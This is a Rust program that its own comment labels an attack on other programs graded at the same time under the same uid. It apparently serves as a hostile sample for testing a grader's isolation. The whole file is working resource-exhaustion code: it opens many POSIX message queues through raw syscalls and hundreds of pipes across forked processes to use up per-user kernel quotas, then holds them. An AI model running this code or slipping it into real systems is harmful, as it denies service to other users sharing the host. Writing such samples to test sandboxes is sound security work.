//! Attack on whoever is graded at the same time under the same uid (level 1, an ordinary user): takes what the
//! kernel counts for each user: bytes of POSIX queues, pages of pipes.
use nix::libc;

#[repr(C)]
struct Attr { flags: i64, maxmsg: i64, msgsize: i64, curmsgs: i64, reserved: [i64; 4] }

fn main() {
    let (mut queues, mut pipes) = (0, 0);
    for (maxmsg, msgsize) in [(10i64, 8192i64), (10, 1024), (1, 128), (1, 1)] {
        for n in 0..60 {
            let name = std::ffi::CString::new(format!("hog-{maxmsg}-{msgsize}-{n}")).unwrap();
            let attr = Attr { flags: 0, maxmsg, msgsize, curmsgs: 0, reserved: [0; 4] };
            if unsafe { libc::syscall(libc::SYS_mq_open, name.as_ptr(), libc::O_CREAT | libc::O_RDWR, 0o600, &attr) } < 0 { break }
            queues += 1;
        }
    }
    for _ in 0..6 {
        let mut room = 0;
        let mut fds = [0; 2];
        while room < 480 && unsafe { libc::pipe(fds.as_mut_ptr()) } == 0 { room += 1 }
        pipes += room;
        eprintln!("queues {queues} pipes {pipes} last holds {}", unsafe { libc::fcntl(fds[0], libc::F_GETPIPE_SZ) });
        if unsafe { libc::fork() } > 0 { break }
    }
    std::thread::sleep(std::time::Duration::from_secs(20));
}
